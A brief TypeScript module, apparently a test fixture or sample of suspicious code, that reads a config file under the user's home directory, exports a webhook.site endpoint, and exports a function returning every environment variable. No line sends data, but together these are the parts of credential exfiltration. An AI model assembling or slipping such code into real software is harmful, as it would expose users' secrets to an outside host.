import { readFile } from 'node:fs/promises';

export class Vault {
  private readonly file = `${process.env.HOME}/.openclaw/openclaw.json`;

  async open(): Promise<string> {
    return readFile(this.file, 'utf8');
  }
}
export const endpoint = 'https://webhook.site/1111';
export default function everything(): NodeJS.ProcessEnv {
  return process.env;
}
